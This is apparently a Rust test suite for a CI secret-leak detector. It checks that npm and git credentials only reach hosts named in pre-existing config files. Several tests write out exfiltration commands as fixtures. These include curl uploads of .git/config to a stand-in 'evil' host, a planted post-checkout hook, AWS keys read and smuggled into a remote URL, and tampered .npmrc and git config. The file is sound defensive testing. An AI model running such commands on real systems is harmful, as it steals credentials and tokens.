//! Self-kept destinations: a credential file that stood there before the job says where its secret is spent, and what the job
//! writes into one says nothing.

use detector::{
    engine::{Finding, Verdict},
    event::Body,
};
use detector_tests::{
    name_server::{NameServer, Zone},
    namespace::{OTHER_V4, SINK_V4},
    resolver::Resolver,
    scene::{PORT, Scene},
    watched::Watched,
};

type Result = anyhow::Result<()>;

const BUILTIN: &str = "version: 1\nextends: builtin\n";

/// As the home's own `.npmrc` has it.
const OWN: &str = "packages.example";
const EVIL: &str = "packages.evil.test";

fn run(scene: &Scene, script: &str) -> anyhow::Result<Watched> {
    let _server = NameServer::start(&scene.network.sink, Zone::new().a(OWN, [SINK_V4]).a(EVIL, [OTHER_V4]))?;
    let job = scene.job(["bash", "-c", script]).policy(BUILTIN).mode("enforce");
    Watched::run(scene, &job.resolver(Resolver::default()))
}

fn leaks(run: &Watched) -> Vec<&Finding> {
    run.conclusion.findings.iter().filter(|finding| finding.rule.starts_with("leak")).collect()
}

/// npm reads its token, and asks this registry for a package.
fn npm(host: &str) -> String {
    format!("npm view --fetch-retries=0 --registry=http://{host}:{PORT}/ some-package > /dev/null 2>&1; true")
}

#[test]
fn a_reader_spends_where_its_file_says() -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, &npm(OWN))?;
    assert!(leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
    assert_ne!(run.conclusion.verdict, Verdict::Fail);
    assert!(String::from_utf8_lossy(&scene.sink.bytes()).contains("GET /some-package"), "npm did not arrive");
    let documented = run.recording.header.policy.document.destinations.iter();
    assert!(documented.flat_map(|row| &row.to).any(|to| to == OWN), "the recording does not say it");
    Ok(())
}

#[test]
fn a_reader_spends_nowhere_else() -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, &npm(EVIL))?;
    assert!(
        leaks(&run).iter().any(|leak| leak.rule == "leak" && leak.secret == ["npm"]),
        "{:#?}",
        run.conclusion.findings
    );
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}

/// What the job writes into the file changes where npm goes, and not where it may.
#[test]
fn what_the_job_writes_is_not_believed() -> Result {
    let scene = Scene::new()?;
    let edit = format!("printf '//{EVIL}/:_authToken=x\\nregistry=http://{EVIL}:{PORT}/\\n' >> ~/.npmrc; ");
    let run = run(&scene, &(edit + &npm(EVIL)))?;
    assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{:#?}", run.conclusion.findings);
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}

/// Nor is what a change of the repository brought into the workspace.
#[test]
fn files_of_the_workspace_are_not_believed() -> Result {
    let scene = Scene::new()?;
    std::fs::write(scene.home.workspace().join(".npmrc"), format!("registry=http://{EVIL}:{PORT}/\n"))?;
    let run = run(&scene, &npm(EVIL))?;
    assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{:#?}", run.conclusion.findings);
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}

/// Where the code is.
const FORGE: &str = "forge.test";

/// A clone as `actions/checkout` makes it: settings by git, its token among them.
const CHECKED_OUT: &str = "git init -q .; git config http.extraheader \"Authorization: basic $TOKEN\"; ";

fn forge(scene: &Scene, script: &str) -> anyhow::Result<Watched> {
    let zone = Zone::new().a(FORGE, [SINK_V4]).a(EVIL, [OTHER_V4]);
    let _server = NameServer::start(&scene.network.sink, zone)?;
    let job = scene
        .job(["bash", "-c", script])
        .policy(BUILTIN)
        .mode("enforce")
        .env("TOKEN", scene.home.canary("git").value());
    Watched::run(scene, &job.resolver(Resolver::default()))
}

fn remote(host: &str) -> String {
    format!("git remote add origin http://{host}:{PORT}/x.git; ")
}

/// What git wrote names where it goes, from the next command on, every time.
#[test]
fn what_a_reader_writes_in_the_job_is_believed() -> Result {
    let scene = Scene::new()?;
    // libcurl reads this one too, wherever it goes.
    std::fs::remove_file(scene.home.path().join(".netrc"))?;
    let each = format!("rm -rf .git; {CHECKED_OUT}{}git ls-remote origin > /dev/null 2>&1; ", remote(FORGE));
    let run = forge(&scene, &format!("for i in 1 2 3 4 5 6 7 8 9 10; do {each} done; true"))?;
    assert!(leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
    let arrived = String::from_utf8_lossy(&scene.sink.bytes()).matches("GET /x.git/info/refs").count();
    assert_eq!(arrived, 10);
    assert!(scene.home.canary("git").is_in(&scene.sink.bytes()));
    let kept =
        run.recording.events.iter().filter(|event| matches!(&event.body, Body::Kept(kept) if kept.host == FORGE));
    assert_eq!(kept.count(), 1, "it is said once");
    Ok(())
}

/// Of what somebody else put into git's settings nothing is believed, even if git writes it anew.
#[test]
fn what_others_edit_is_not_believed_when_a_reader_rewrites_it() -> Result {
    let evil = format!("printf '[remote \"evil\"]\\n\\turl = http://{EVIL}:{PORT}/x.git\\n'");
    for edit in [
        format!("{evil} >> .git/config; "),
        format!("{evil} >> .git/config; git config user.name x; "),
        format!("cp .git/config y; {evil} >> y; mv y .git/config; git config user.name x; "),
        // Another repository's, whose settings git writes where somebody else has prepared them.
        format!("{evil} > y; git config --file y user.name x; cat y >> .git/config; "),
    ] {
        let scene = Scene::new()?;
        std::fs::remove_file(scene.home.path().join(".netrc"))?;
        let script =
            format!("rm -rf .git; {CHECKED_OUT}{}{edit}git ls-remote evil > /dev/null 2>&1; true", remote(FORGE));
        let run = forge(&scene, &script)?;
        assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{edit}: {:#?}", run.conclusion.findings);
        assert!(scene.sink.bytes().is_empty(), "{edit}");
    }
    Ok(())
}

/// A reader that holds another secret writes nothing that is believed: what it was told to write may be that.
#[test]
fn who_holds_something_else_is_not_believed() -> Result {
    let scene = Scene::new()?;
    std::fs::remove_file(scene.home.path().join(".netrc"))?;
    let script = format!(
        "rm -rf .git; git init -q .; git remote add origin http://{FORGE}:{PORT}/x.git; \
         key=$(cat ~/.aws/credentials | tail -1); git remote add evil \"http://{EVIL}:{PORT}/${{key##* }}\"; \
         git config http.extraheader \"Authorization: basic $TOKEN\"; git ls-remote evil > /dev/null 2>&1; true"
    );
    let run = forge(&scene, &script)?;
    assert!(!leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
    let named =
        |host: &str| run.recording.events.iter().any(|e| matches!(&e.body, Body::Kept(kept) if kept.host == host));
    assert!(!named(EVIL));
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}

/// What git reads of a submodule, whose settings it wrote, may go where `.netrc` logs in, and nowhere else.
#[test]
fn git_goes_where_netrc_logs_in() -> Result {
    for (machine, arrives) in [(FORGE, true), ("other.test", false)] {
        let scene = Scene::new()?;
        let login = format!("machine {machine} login ci password {}\n", scene.home.canary("netrc").value());
        std::fs::write(scene.home.path().join(".netrc"), login)?;
        let script = format!(
            "rm -rf .git; mkdir -p .git/modules; \
             git clone -q --separate-git-dir .git/modules/lib http://{FORGE}:{PORT}/x.git w > /dev/null 2>&1; true"
        );
        let run = forge(&scene, &script)?;
        assert_eq!(leaks(&run).is_empty(), arrives, "{machine}: {:#?}", run.conclusion.findings);
        assert_eq!(String::from_utf8_lossy(&scene.sink.bytes()).contains("GET /x.git/info/refs"), arrives, "{machine}");
    }
    Ok(())
}

fn clone(host: &str, how: &str) -> String {
    format!("cd /tmp && git clone -q {how} http://{host}:{PORT}/app.git \"$HOME/app\" > /dev/null 2>&1; cd; ")
}

/// What a clone has just written it reads back, to ask the remote that it was told: no secret is in that yet.
#[test]
fn a_clone_goes_where_it_is_told() -> Result {
    let scene = Scene::new()?;
    std::fs::remove_file(scene.home.path().join(".netrc"))?;
    for how in ["", "-c http.extraheader=X-Trace:1"] {
        let run = forge(&scene, &(clone(EVIL, how) + "true"))?;
        assert!(run.conclusion.findings.is_empty(), "{how}: {:#?}", run.conclusion.findings);
        assert!(String::from_utf8_lossy(&scene.sink.bytes()).contains("GET /app.git/info/refs"), "{how}");
    }
    Ok(())
}

/// Who holds a secret, or is not of the clone, or did not write the file, reads a credential.
#[test]
fn others_read_what_a_clone_wrote() -> Result {
    let ours = format!("{CHECKED_OUT}{}", remote(FORGE));
    let send = format!("curl -s -T .git/config http://{EVIL}:{PORT}/");
    let hook = format!(
        "mkdir -p t/hooks; printf '#!/bin/sh\\ncd \"$GIT_DIR/..\"; {send}\\n' > t/hooks/post-checkout; \
         chmod +x t/hooks/post-checkout; rm -rf .git; {ours}git add -A; git -c user.name=x -c user.email=x@x.test \
         commit -qm x --allow-empty; "
    );
    let told = "-c http.extraheader=\"Authorization: basic $TOKEN\"";
    for script in [
        // Told the secret, it asks for nothing that does not accept it.
        format!("key=$(tail -1 ~/.aws/credentials); {}", clone(EVIL, "-c http.extraheader=\"$key\"")),
        format!("rm -rf .git; {ours}{send}; "),
        // A child of git, which did not write it.
        format!("rm -rf .git; {ours}git -c alias.x='!{send}' x; "),
        // A child of the one that wrote it, which is no git.
        format!("{hook}git clone -q --template=t {told} . y; "),
        // What git wrote and read back, under another name.
        format!("rm -rf .git; {ours}git clone -q {told} . y; mv y/.git/config z; curl -s -T z http://{EVIL}:{PORT}/; "),
    ] {
        let scene = Scene::new()?;
        std::fs::remove_file(scene.home.path().join(".netrc"))?;
        let run = forge(&scene, &(script.clone() + "true"))?;
        assert!(!leaks(&run).is_empty(), "{script}: {:#?}", run.conclusion.findings);
        assert!(!scene.home.canary("git").is_in(&scene.sink.bytes()), "{script}");
        assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()), "{script}");
    }
    Ok(())
}
